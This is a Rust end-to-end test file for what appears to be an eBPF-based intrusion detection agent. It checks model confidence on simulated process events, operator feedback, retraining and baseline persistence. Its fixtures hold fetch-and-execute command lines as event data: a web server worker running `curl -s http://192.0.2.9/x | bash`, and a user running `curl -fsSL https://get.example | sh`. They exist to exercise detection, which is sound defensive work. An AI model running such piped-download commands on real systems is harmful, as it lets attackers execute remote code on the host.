//! End to end: the live pipeline decides with the shipped model, an operator's verdict comes
//! in through the control path the D-Bus `Feedback` method uses, a retrain runs, and the same
//! pattern lands on the other side of the act threshold — both directions. Also: the host
//! baseline survives a restart.

use std::time::Duration;

use innerwarden::pipeline::{self, Control, Sink};
use innerwarden::recorder::StoreSink;
use innerwarden::respond::Responders;
use innerwarden::respond::stage::ResponseStage;
use innerwarden_core::config::Config;
use innerwarden_core::decide::Decision;
use innerwarden_core::engine::Engine;
use innerwarden_core::event::Event;
use innerwarden_core::model::file::Label;
use innerwarden_core::model::{ModelScorer, features};
use serde_json::json;

fn config(dir: &std::path::Path) -> Config {
    let mut cfg = Config::default();
    cfg.agent.state_dir = dir.to_path_buf();
    // The baseline counts as mature at once, so "never seen here" applies in this short run.
    cfg.model.learning_days = 0;
    cfg
}

fn open(cfg: &Config) -> StoreSink {
    let sink = StoreSink::open(cfg).expect("sink");
    let stage = ResponseStage::new(cfg.response.clone(), Responders::default())
        .with_model(&cfg.model, sink.store())
        .expect("model");
    sink.with_response(stage)
}

fn exec(t: u32, pid: u32, ppid: u32, uid: u32, path: &str, argv: &[&str]) -> Event {
    serde_json::from_value(json!({"v": 1, "ts": format!("2026-11-22T12:00:{t:02}Z"),
        "source": "ebpf", "kind": "exec", "pid": pid, "ppid": ppid, "uid": uid, "gid": uid,
        "comm": path.rsplit('/').next(), "filename": path, "argv": argv,
        "argv_truncated": false, "cgroup_id": 0}))
    .expect("event")
}

/// A web server worker (uid 33) runs `sh -c 'curl … | bash'`.
fn web_shell(t: u32, pid: u32, server: &str, shell: &str) -> Vec<Event> {
    vec![
        exec(t, pid, 1, 0, server, &["worker"]),
        exec(
            t + 1,
            pid + 1,
            pid,
            33,
            shell,
            &["sh", "-c", "curl -s http://192.0.2.9/x | bash"],
        ),
    ]
}

/// A user at a login shell runs `curl … | sh` after using curl there before.
fn installer(t: u32, pid: u32, shell: &str) -> Vec<Event> {
    let mut v = vec![exec(t, pid, 1, 1000, "/usr/bin/bash", &["-bash"])];
    for k in 0..3 {
        v.push(exec(
            t + 1,
            pid + 1 + k,
            pid,
            1000,
            "/usr/bin/curl",
            &["curl", "https://x"],
        ));
    }
    v.push(exec(
        t + 2,
        pid + 9,
        pid,
        1000,
        shell,
        &["sh", "-c", "curl -fsSL https://get.example | sh"],
    ));
    v
}

/// Run `events` through the pipeline into `sink`; the decisions made, in order.
fn feed(sink: &mut StoreSink, events: Vec<Event>) -> Vec<Decision> {
    let before: usize = decisions(sink).len();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    rt.block_on(async {
        let (tx, rx) = tokio::sync::mpsc::channel(1024);
        for ev in events {
            tx.send(ev).await.expect("send");
        }
        drop(tx);
        let (_stop, stop_rx) = tokio::sync::watch::channel(false);
        let engine = Engine::new(&Config::default().detectors);
        pipeline::run(
            rx,
            engine,
            sink,
            Vec::new(),
            stop_rx,
            Duration::from_secs(60),
        )
        .await
        .expect("pipeline");
    });
    decisions(sink).split_off(before)
}

fn decisions(sink: &StoreSink) -> Vec<Decision> {
    let store = sink.store();
    let mut out = Vec::new();
    let mut incidents = store.list_incidents(1000).expect("incidents");
    incidents.sort_by_key(|i| i.id);
    for i in incidents {
        out.extend(
            store
                .decisions_for(i.id)
                .expect("decisions")
                .into_iter()
                .map(|d| d.decision),
        );
    }
    out
}

/// The detectors of an incident's findings, sorted.
fn detectors(sink: &StoreSink, incident_id: i64) -> Vec<String> {
    let mut d: Vec<String> = sink
        .store()
        .incident(incident_id)
        .expect("incident")
        .expect("exists")
        .findings
        .into_iter()
        .map(|f| f.finding.detector)
        .collect();
    d.sort();
    d
}

fn feedback(sink: &mut StoreSink, incident_id: i64, verdict: Label) {
    let (reply, rx) = tokio::sync::oneshot::channel();
    sink.control(Control::Feedback {
        incident_id,
        verdict,
        caller_uid: 0,
        reply,
    })
    .expect("control");
    rx.blocking_recv()
        .expect("reply")
        .expect("feedback accepted");
}

/// The retrained scorer's confidence for a stored decision's exact feature vector.
fn rescore(model_json: &str, d: &Decision) -> f64 {
    let m = innerwarden_core::model::file::ModelFile::parse(model_json).expect("model");
    ModelScorer::new(m).predict(&features::from_named(&d.features).expect("features"))
}

#[test]
fn operator_verdicts_move_the_same_pattern_across_the_act_threshold() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path());
    let mut sink = open(&cfg);

    let first = feed(&mut sink, web_shell(0, 100, "/usr/sbin/nginx", "/bin/sh"));
    let high = first.last().expect("a decision on the web shell").clone();
    println!(
        "web shell before feedback: {:.3} by {} ({:?})",
        high.confidence, high.scorer, high.reasons
    );
    assert!(high.scorer.starts_with("model-v1-"), "{}", high.scorer);
    assert!(high.confidence >= 0.85, "{high:?}");
    // The explanation: top contributions by magnitude, then the bias.
    assert_eq!(
        high.reasons.last().map(|r| r.feature.as_str()),
        Some("bias")
    );
    let top: Vec<f64> = high.reasons[..high.reasons.len() - 1]
        .iter()
        .map(|r| r.contribution.abs())
        .collect();
    assert!(top.windows(2).all(|w| w[0] >= w[1]), "{:?}", high.reasons);
    assert!(
        high.features
            .iter()
            .any(|f| f.name == "user.system" && f.value == 1.0)
    );
    assert!(
        high.features
            .iter()
            .any(|f| f.name == "ancestry.web_server" && f.value == 1.0)
    );

    let second = feed(&mut sink, installer(10, 300, "/usr/bin/sh"));
    let low = second.last().expect("a decision on the installer").clone();
    println!("installer before feedback: {:.3}", low.confidence);
    assert!(low.confidence < 0.85, "{low:?}");

    feedback(&mut sink, high.incident_id, Label::Benign);
    feedback(&mut sink, low.incident_id, Label::Malicious);
    assert!(
        sink.retrain_now().expect("retrain"),
        "new feedback retrains"
    );
    assert!(
        !sink.retrain_now().expect("retrain"),
        "nothing new: no retrain"
    );

    // Exactly what the model saw before now lands on the other side of 0.85 ...
    let retrained = innerwarden::model::retrain(sink.store(), &cfg.model, 0.85).expect("retrain");
    let json = retrained.to_json();
    let (h, l) = (rescore(&json, &high), rescore(&json, &low));
    println!("after feedback: web shell {h:.3}, installer {l:.3}");
    assert!(h < 0.85, "benign verdict: {h}");
    assert!(l >= 0.85, "malicious verdict: {l}");

    // ... and so does the same pattern arriving again (new processes, the same detectors and
    // context): no decision on it reaches the act tier, and the installer's does.
    let again = feed(
        &mut sink,
        web_shell(20, 500, "/usr/sbin/apache2", "/usr/local/bin/sh"),
    );
    let last = again.last().expect("decision");
    assert_eq!(
        detectors(&sink, last.incident_id),
        detectors(&sink, high.incident_id)
    );
    // The first decision is on the pattern the verdict was about; a later one may add a
    // finding the operator never judged (and is then free to act).
    let first_again = again.first().expect("a first decision");
    assert!(first_again.confidence < 0.85, "{again:?}");
    let max_features = |d: &Decision| d.features.clone();
    if let Some(same) = again.iter().find(|d| max_features(d) == high.features) {
        assert!(same.confidence < 0.85);
    }
    let again = feed(&mut sink, installer(30, 700, "/opt/bin/sh"));
    let last = again.last().expect("decision");
    assert_eq!(
        detectors(&sink, last.incident_id),
        detectors(&sink, low.incident_id)
    );
    assert!(again.iter().any(|d| d.confidence >= 0.85), "{again:?}");

    // Both verdicts are in the audit log.
    sink.close().expect("close");
    let audit = std::fs::read_to_string(dir.path().join("audit.jsonl")).expect("audit");
    assert_eq!(
        audit
            .lines()
            .filter(|l| l.contains("\"kind\":\"feedback\""))
            .count(),
        2
    );
    assert!(audit.contains("retrained with operator feedback"));
}

#[test]
fn the_baseline_survives_a_restart() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path());
    let mut sink = open(&cfg);
    feed(&mut sink, installer(0, 300, "/usr/bin/sh"));
    sink.maintain_now().expect("flush the baseline");
    sink.close().expect("close");
    drop(sink);

    let (started, rows) = innerwarden::recorder::open_store(dir.path())
        .expect("store")
        .load_baseline()
        .expect("baseline");
    assert!(started.is_some());
    assert!(
        rows.iter()
            .any(|(_, k, e)| k == "bash>/usr/bin/curl" && e.count > 2.9),
        "{rows:?}"
    );

    // After a restart the habit is known: the same installer is no longer "new".
    let mut sink = open(&cfg);
    let d = feed(&mut sink, installer(40, 800, "/usr/bin/sh"));
    let d = d.last().expect("decision");
    let get = |n: &str| {
        d.features
            .iter()
            .find(|f| f.name == n)
            .map_or(0.0, |f| f.value)
    };
    assert_eq!(get("new.parent_child"), 0.0, "{:?}", d.features);
    assert_eq!(get("new.binary"), 0.0);
}
